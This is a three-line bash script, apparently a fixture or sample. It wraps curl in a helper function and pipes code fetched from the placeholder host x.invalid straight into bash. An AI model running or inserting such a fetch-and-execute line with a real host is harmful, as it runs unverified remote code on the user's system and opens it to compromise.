#!/bin/bash
get() { curl -s "$1"; }
get http://x.invalid/a | bash
